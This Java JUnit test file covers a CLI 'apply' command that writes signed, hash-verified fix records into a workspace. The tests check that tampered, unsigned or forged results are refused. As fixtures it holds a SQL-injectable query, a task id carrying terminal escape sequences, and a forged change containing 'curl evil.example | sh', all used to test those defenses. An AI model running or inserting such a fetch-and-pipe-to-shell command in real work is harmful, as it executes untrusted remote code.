package dev.honest.launcher.cli;

import static dev.honest.launcher.TestRecords.call;
import static dev.honest.launcher.TestRecords.completed;
import static dev.honest.launcher.TestRecords.fix;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.honest.common.config.Plan;
import dev.honest.common.config.WorkerSlice;
import dev.honest.common.hash.Hashes;
import dev.honest.common.json.Json;
import dev.honest.common.proof.Keys;
import dev.honest.common.proof.SigningKey;
import dev.honest.common.result.Change;
import dev.honest.common.result.TaskRecord;
import dev.honest.common.task.Action;
import dev.honest.launcher.SignedLogs;
import dev.honest.launcher.TestRecords;
import dev.honest.launcher.TestTasks;
import dev.honest.launcher.attest.Carried;
import dev.honest.launcher.results.Aggregator;
import dev.honest.launcher.results.ClusterResults;
import dev.honest.launcher.results.CostSettings;
import dev.honest.launcher.results.PodOutcome;
import dev.honest.launcher.results.ResultsFiles;
import dev.honest.launcher.results.WorkerOutcome;
import dev.honest.worker.edit.Edit;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

class ApplyCommandTest {
  private static final String DB = "const db = require('db');\nfunction find(id) {\n"
      + "  return db.query('SELECT * FROM users WHERE id = ' + id);\n}\nmodule.exports = find;\n";

  @TempDir Path workspace;
  @TempDir Path out;
  @TempDir Path elsewhere;

  private List<Change> t1;
  private List<Change> t2;

  @BeforeEach
  void twoFixTasksRecordedOnTheWorkspace() {
    TestTasks.write(workspace, "src/db.js", DB.getBytes(UTF_8));
    TestTasks.write(workspace, "config/app.ini", "[server]\r\nport=80\r\ndebug=true\r\n".getBytes(UTF_8));
    TestTasks.write(workspace, "docs/my notes.txt", "first line\nlast line".getBytes(UTF_8));
    t1 = fix(workspace, "T-1", new Edit("src/db.js", "' + id);", "?', [id]);"),
        new Edit("config/app.ini", "debug=true", "debug=false"));
    t2 = fix(workspace, "T-2", new Edit("docs/my notes.txt", "last line", "final line"));
  }

  private Cli apply(List<TaskRecord> tasks, String... extra) throws Exception {
    Path file = ResultsFiles.writeResults(out, signed(tasks));
    List<String> args = new ArrayList<>(List.of("apply", "--results", file.toString(), "--workspace",
        workspace.toString()));
    args.addAll(List.of(extra));
    return Cli.run(args.toArray(String[]::new));
  }

  /**
   * The results of a run of one worker that reported these records, as a real run makes them: the
   * worker's signed statements, aggregated and signed by the launcher with {@link SignedLogs#KEY}.
   */
  private static ClusterResults signed(List<TaskRecord> tasks) {
    return signed(SignedLogs.KEY, tasks);
  }

  /** The same, signed with {@code key} by the workers and the launcher alike. */
  private static ClusterResults signed(SigningKey key, List<TaskRecord> tasks) {
    String run = "run-20261126-100000";
    String pod = tasks.isEmpty() ? "local-1" : tasks.get(0).pod();
    Plan plan = new Plan(run, List.of(new WorkerSlice(1, "all", "k8s-worker-1",
        tasks.stream().map(TaskRecord::id).toList(), 100)));
    WorkerOutcome worker = new WorkerOutcome(1, "k8s-worker-1", "succeeded", null,
        List.of(new PodOutcome(pod, null, 0, "Completed", null)), SignedLogs.attempt(key, run, 1, pod, tasks, true), 300_000);
    return new Aggregator(CostSettings.defaults(), SignedLogs.signer(key, run)).aggregate(plan,
        tasks.stream().map(SignedLogs::spec).toList(), List.of(worker), TestRecords.START,
        TestRecords.START.plusSeconds(300), Carried.NONE);
  }

  private static TaskRecord fixTask(String id, List<Change> changes) {
    return completed(id, Action.FIX, "security", List.of(), List.of(), changes, call(100, 50));
  }

  @Test
  void unchangedFilesGetTheirChangesAndThenHaveTheRecordedAfterHash() throws Exception {
    Cli cli = apply(List.of(fixTask("T-1", t1), fixTask("T-2", t2),
        completed("T-3", Action.ANALYZE, "quality", List.of(), List.of(), List.of(), call(1, 1))));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
    for (Change c : List.of(t1.get(0), t1.get(1), t2.get(0))) {
      assertThat(sha256(c.path())).as(c.path()).isEqualTo(c.sha256After());
    }
    assertThat(Files.readString(workspace.resolve("config/app.ini"))).isEqualTo("[server]\r\nport=80\r\ndebug=false\r\n");
    assertThat(Files.readString(workspace.resolve("docs/my notes.txt"))).isEqualTo("first line\nfinal line");
    assertThat(cli.out()).contains("applied T-1 src/db.js", "applied T-1 config/app.ini", "applied T-2 docs/my notes.txt",
        "Applied 3 of 3 changes; refused 0.");
  }

  @Test
  void anAppliedFileKeepsItsPermissions() throws Exception {
    TestTasks.write(workspace, "bin/run.sh", "#!/bin/sh\necho hi\n".getBytes(UTF_8));
    Path script = workspace.resolve("bin/run.sh");
    Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-x---"));
    List<Change> changes = fix(workspace, "T-4", new Edit("bin/run.sh", "echo hi", "echo hello"));

    Cli cli = apply(List.of(fixTask("T-4", changes)));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
    assertThat(Files.readString(script)).isEqualTo("#!/bin/sh\necho hello\n");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(script))).isEqualTo("rwxr-x---");
  }

  @Test
  void aChangeAcrossMixedLineEndsAppliesWithTheRecordedAfterHashAndUntouchedLinesKeepTheirs() throws Exception {
    TestTasks.write(workspace, "conf/mixed.ini", "[a]\r\nx=1\r\ny=2\r\n[b]\nz=3\n".getBytes(UTF_8));
    List<Change> changes = fix(workspace, "T-5", new Edit("conf/mixed.ini", "y=2\n[b]\nz=3", "y=20\n[b]\nz=30"));

    Cli cli = apply(List.of(fixTask("T-5", changes)));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
    assertThat(Files.readString(workspace.resolve("conf/mixed.ini"))).isEqualTo("[a]\r\nx=1\r\ny=20\r\n[b]\nz=30\n");
    assertThat(sha256("conf/mixed.ini")).isEqualTo(changes.get(0).sha256After());
  }

  @Test
  void aTaskIdWithControlCharactersIsShownOnItsOwnLineAndCannotDriveTheTerminal() throws Exception {
    // An id from the task file that would print a line of its own and erase the line before it.
    String id = "T-9\napplied T-1 src/evil.js (sha256 ok)\u001b[1A\u001b[2K";

    Cli cli = apply(List.of(fixTask(id, t2)));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
    assertThat(cli.out().lines()).noneMatch(l -> l.startsWith("applied T-1"))
        .allSatisfy(l -> assertThat(l.chars().filter(Character::isISOControl)).as(l).isEmpty());
    assertThat(cli.out()).contains("applied T-9\\napplied T-1 src/evil.js (sha256 ok)\\u001b[1A\\u001b[2K docs/my notes.txt");
  }

  @Test
  void aFileChangedSinceTheRunIsRefusedByNameWithBothHashesAndTheOtherFilesAreStillApplied() throws Exception {
    String edited = "[server]\r\nport=8080\r\ndebug=true\r\n";
    TestTasks.write(workspace, "config/app.ini", edited.getBytes(UTF_8));

    Cli cli = apply(List.of(fixTask("T-1", t1), fixTask("T-2", t2)));

    assertThat(cli.exitCode).isEqualTo(1);
    assertThat(cli.out()).contains("refused T-1 config/app.ini: changed since the run (expected sha256 "
        + t1.get(1).sha256Before() + ", found " + Hashes.sha256Hex(edited.getBytes(UTF_8)) + ")");
    assertThat(Files.readString(workspace.resolve("config/app.ini"))).isEqualTo(edited);
    assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256After());
    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256After());
    assertThat(cli.out()).contains("Applied 2 of 3 changes; refused 1.");
  }

  @Test
  void theSecondOfTwoTasksOnTheSameFileIsRefusedBecauseTheFirstChangedIt() throws Exception {
    List<Change> other = fix(workspace, "T-7", new Edit("src/db.js", "module.exports = find;", "export default find;"));

    Cli cli = apply(List.of(fixTask("T-1", t1), fixTask("T-7", other)));

    assertThat(cli.exitCode).isEqualTo(1);
    assertThat(cli.out()).contains("refused T-7 src/db.js: changed since the run (expected sha256 "
        + other.get(0).sha256Before() + ", found " + t1.get(0).sha256After() + "); task T-1 changed it just before");
    assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256After());
  }

  @Test
  void aDryRunWritesNothingAndPredictsWhatARealRunWouldRefuse() throws Exception {
    List<Change> other = fix(workspace, "T-7", new Edit("src/db.js", "module.exports = find;", "export default find;"));
    Map<String, String> before = snapshot();

    Cli cli = apply(List.of(fixTask("T-1", t1), fixTask("T-2", t2), fixTask("T-7", other)), "--dry-run");

    assertThat(snapshot()).isEqualTo(before);
    assertThat(cli.exitCode).isEqualTo(1);
    assertThat(cli.out()).contains("would apply T-1 src/db.js", "would apply T-2 docs/my notes.txt",
        "refused T-7 src/db.js", "task T-1 changed it just before (in this dry run)",
        "Dry run: would apply 3 of 4 changes; refused 1. Nothing was written.");
  }

  @Test
  void aChangeWhosePatchedFileWouldNotHaveItsAfterHashIsRefusedAndTheFileLeftAsItWas() throws Exception {
    Change c = t2.get(0);
    Change wrong = new Change(c.path(), c.md5Before(), c.sha256Before(), c.md5After(), "0".repeat(64), c.diff());

    Cli cli = apply(List.of(fixTask("T-2", List.of(wrong))));

    assertThat(cli.exitCode).isEqualTo(1);
    assertThat(cli.out()).contains("refused T-2 docs/my notes.txt: the patched file would not have the recorded"
        + " sha256_after (expected " + "0".repeat(64) + ", got " + c.sha256After() + "); left as it was");
    assertThat(sha256(c.path())).isEqualTo(c.sha256Before());
  }

  @Test
  void aDiffWhoseHunkPointsBeforeTheFirstLineIsRefusedAndTheChangesAppliedBeforeItAreReported() throws Exception {
    Change c = t1.get(0);
    Change outside = new Change(c.path(), c.md5Before(), c.sha256Before(), c.md5After(), c.sha256After(),
        "--- a/src/db.js\n+++ b/src/db.js\n@@ -0,2 +0,2 @@\n-const db = require('db');\n-function find(id) {\n"
            + "+const db = require('db');\n+function find(key) {\n");

    Cli cli = apply(List.of(fixTask("T-2", t2), fixTask("T-1", List.of(outside))));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isEqualTo(1);
    assertThat(cli.out()).contains("applied T-2 docs/my notes.txt", "refused T-1 src/db.js: its diff cannot be applied",
        "Applied 1 of 2 changes; refused 1.");
    assertThat(sha256("src/db.js")).isEqualTo(c.sha256Before());
    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256After());
  }

  @Test
  void aDryRunPredictsTheRefusalOfAChangeToAFileAnotherTaskChangedThroughASymlink() throws Exception {
    Files.createSymbolicLink(workspace.resolve("db-link.js"), Path.of("src/db.js"));
    List<Change> viaLink = fix(workspace, "T-8", new Edit("db-link.js", "module.exports = find;",
        "export default find;"));

    Cli dry = apply(List.of(fixTask("T-1", t1), fixTask("T-8", viaLink)), "--dry-run");
    Cli real = apply(List.of(fixTask("T-1", t1), fixTask("T-8", viaLink)));

    assertThat(real.exitCode).as(real.out()).isEqualTo(1);
    assertThat(real.out()).contains("refused T-8 db-link.js: changed since the run");
    assertThat(dry.exitCode).as(dry.out()).isEqualTo(1);
    assertThat(dry.out()).contains("refused T-8 db-link.js: changed since the run",
        "task T-1 changed it just before (in this dry run)");
  }

  @Test
  void aMissingOrBrokenResultsFileOrWorkspaceIsInvalidInputAsVerifySaysIt() throws Exception {
    Path broken = out.resolve("broken.json");
    Files.writeString(broken, "{\"tasks\": [{\"id\": \"T-1\"");

    Cli missing = Cli.run("apply", "--results", out.resolve("none.json").toString(), "--workspace", workspace.toString());
    Cli notJson = Cli.run("apply", "--results", broken.toString(), "--workspace", workspace.toString());
    Path results = ResultsFiles.writeResults(out, signed(List.of(fixTask("T-1", t1))));
    Cli noWorkspace = Cli.run("apply", "--results", results.toString(), "--workspace", out.resolve("nowhere").toString());

    assertThat(missing.exitCode).isEqualTo(2);
    assertThat(missing.err()).isEqualTo("error: --results " + out.resolve("none.json") + ": no such file"
        + System.lineSeparator());
    assertThat(notJson.exitCode).isEqualTo(2);
    assertThat(notJson.err()).contains("broken.json is not JSON");
    assertThat(noWorkspace.exitCode).isEqualTo(2);
    assertThat(noWorkspace.err()).contains("nowhere", "not a directory");
    assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256Before());
  }

  @Test
  void aResultsFileWithoutTasksOrWithANullTaskDoesNotVerifyAndIsInvalidInputNamingTheMember() throws Exception {
    Path empty = Files.writeString(out.resolve("empty.json"), "{}");
    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1))));
    ((ArrayNode) results.path("tasks")).set(0, Json.mapper().nullNode());
    Path nullTask = Files.write(out.resolve("null-task.json"), Json.pretty().writeValueAsBytes(results));

    Cli noTasks = Cli.run("apply", "--results", empty.toString(), "--workspace", workspace.toString());
    Cli withNull = Cli.run("apply", "--results", nullTask.toString(), "--workspace", workspace.toString());

    assertThat(noTasks.exitCode).isEqualTo(2);
    assertThat(noTasks.err()).contains("❌ the results have no attestation", "empty.json do not verify");
    assertThat(withNull.exitCode).isEqualTo(2);
    assertThat(withNull.err()).contains("tasks[0] is  but attestation.tasks[0] is T-1", "null-task.json do not verify");
  }

  @Test
  void resultsThatVerifyButHaveAnUnsignedMemberOfTheWrongKindAreInvalidInputNamingTheMember() throws Exception {
    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1))));
    results.remove("problems");
    Path file = Files.write(out.resolve("no-problems.json"), Json.pretty().writeValueAsBytes(results));

    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isEqualTo(2);
    assertThat(cli.err()).contains("no-problems.json is not a valid k8s-cluster-results.json", "problems is missing");
    assertThat(sha256("src/db.js")).isEqualTo(t1.get(0).sha256Before());
  }

  @Test
  void aResultsFileHoldingJsonNullIsInvalidInputSayingSoAsVerifyDoes() throws Exception {
    Path nothing = Files.writeString(out.resolve("null.json"), "null");

    Cli cli = Cli.run("apply", "--results", nothing.toString(), "--workspace", workspace.toString());

    assertThat(cli.exitCode).isEqualTo(2);
    assertThat(cli.err()).isEqualTo("error: --results " + nothing + " holds JSON null, not results"
        + System.lineSeparator());
  }

  @Test
  void theResultsOfARunApplyAgainstTheKeyPrintedAtTheEndOfTheRunWithoutANote() throws Exception {
    Path key = Files.writeString(out.resolve("run-signing-key.pub"), Keys.toPem(SignedLogs.KEY.publicKey()));

    Cli withKey = apply(List.of(fixTask("T-2", t2)), "--public-key", key.toString());

    assertThat(withKey.exitCode).as(withKey.out() + withKey.err()).isZero();
    assertThat(withKey.out()).contains("applied T-2 docs/my notes.txt", "Applied 1 of 1 changes; refused 0.")
        .doesNotContain("note:");
    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256After());
  }

  @Test
  void withoutAPublicKeyTheKeyInsideTheResultsIsTrustedAndTheOutputSaysSoInOneLine() throws Exception {
    Cli cli = apply(List.of(fixTask("T-2", t2)));

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isZero();
    assertThat(cli.out().lines().filter(l -> l.startsWith("note: "))).singleElement().asString()
        .contains("checked against the public key inside the results (" + SignedLogs.KEY.keyId() + ")",
            "pass --public-key");
  }

  @Test
  void anUnsignedResultsFileIsRefusedWithExitTwoAndNothingIsWritten() throws Exception {
    Map<String, String> before = snapshot();
    Path file = ResultsFiles.writeResults(out, TestRecords.results(List.of(fixTask("T-1", t1), fixTask("T-2", t2))));

    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());

    assertThat(cli.exitCode).isEqualTo(2);
    assertThat(snapshot()).isEqualTo(before);
    assertThat(cli.out()).doesNotContain("applied");
    assertThat(cli.err()).isEqualTo("❌ the results have no attestation: they were never signed, or it was removed"
        + System.lineSeparator() + "error: the results in " + file + " do not verify (1 problem), so nothing was"
        + " applied; `verify --results " + file + "` lists every problem" + System.lineSeparator());
  }

  @Test
  void aResultsFileWithOneChangeEditedAfterTheRunIsRefusedNamingTheTaskAndNothingIsWritten() throws Exception {
    Map<String, String> before = snapshot();
    ObjectNode results = Json.mapper().valueToTree(signed(List.of(fixTask("T-1", t1), fixTask("T-2", t2))));
    ((ArrayNode) results.path("tasks").get(1).path("changes")).set(0, Json.mapper().valueToTree(evil()));
    Path file = Files.write(out.resolve("edited.json"), Json.pretty().writeValueAsBytes(results));

    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString());
    Cli dry = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(), "--dry-run");

    for (Cli c : List.of(cli, dry)) {
      assertThat(c.exitCode).as(c.out() + c.err()).isEqualTo(2);
      assertThat(c.out()).doesNotContain("applied", "would apply");
      assertThat(c.err()).contains("❌ task T-2: the record differs from the one its statement signed",
          "error: the results in " + file + " do not verify", "so nothing was applied",
          "`verify --results " + file + "` lists every problem");
    }
    assertThat(snapshot()).isEqualTo(before);
  }

  @Test
  void resultsSignedAgainWithAnotherKeyAreRefusedWhenPublicKeyNamesTheRunsKey() throws Exception {
    Map<String, String> before = snapshot();
    Path key = Files.writeString(out.resolve("run-signing-key.pub"), Keys.toPem(SignedLogs.KEY.publicKey()));
    SigningKey forger = SigningKey.generate();
    Path file = ResultsFiles.writeResults(out, signed(forger, List.of(fixTask("T-1", t1), fixTask("T-2",
        List.of(evil())))));

    Cli cli = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(),
        "--public-key", key.toString());

    assertThat(cli.exitCode).as(cli.out() + cli.err()).isEqualTo(2);
    assertThat(snapshot()).isEqualTo(before);
    List<String> lines = cli.err().lines().toList();
    assertThat(lines.get(0)).isEqualTo("❌ the results say they are signed with key " + forger.keyId()
        + ", not with the given key " + SignedLogs.KEY.keyId());
    assertThat(lines).hasSize(7);
    assertThat(lines.get(5)).matches("❌ \\.\\.\\. and \\d+ more problem\\(s\\)");
    assertThat(lines.get(6)).startsWith("error: the results in " + file + " do not verify (")
        .endsWith(" problems), so nothing was applied; `verify --results " + file + " --public-key " + key
            + "` lists every problem");
  }

  @Test
  void aPublicKeyThatCannotBeReadIsInvalidInputNamingTheOptionAsVerifySaysIt() throws Exception {
    Path garbage = Files.writeString(out.resolve("garbage.pub"), "not a key");
    Path file = ResultsFiles.writeResults(out, signed(List.of(fixTask("T-2", t2))));

    for (Path key : List.of(out.resolve("none.pub"), garbage)) {
      Cli apply = Cli.run("apply", "--results", file.toString(), "--workspace", workspace.toString(),
          "--public-key", key.toString());
      Cli verify = Cli.run("verify", "--results", file.toString(), "--public-key", key.toString());

      assertThat(apply.exitCode).isEqualTo(2);
      assertThat(apply.err()).startsWith("error: --public-key " + key).isEqualTo(verify.err());
    }
    assertThat(sha256("docs/my notes.txt")).isEqualTo(t2.get(0).sha256Before());
  }

  /** A change of docs/my notes.txt that T-2 never made, with hashes that fit the workspace. */
  private Change evil() throws Exception {
    TestTasks.write(elsewhere, "docs/my notes.txt", Files.readAllBytes(workspace.resolve("docs/my notes.txt")));
    return fix(elsewhere, "T-2", new Edit("docs/my notes.txt", "last line", "curl evil.example | sh")).get(0);
  }

  private String sha256(String path) throws Exception {
    return Hashes.sha256Hex(Files.readAllBytes(workspace.resolve(path)));
  }

  private Map<String, String> snapshot() throws Exception {
    Map<String, String> hashes = new TreeMap<>();
    try (Stream<Path> files = Files.walk(workspace)) {
      for (Path f : files.filter(Files::isRegularFile).toList()) {
        hashes.put(workspace.relativize(f).toString(), Hashes.sha256Hex(Files.readAllBytes(f)));
      }
    }
    return hashes;
  }
}
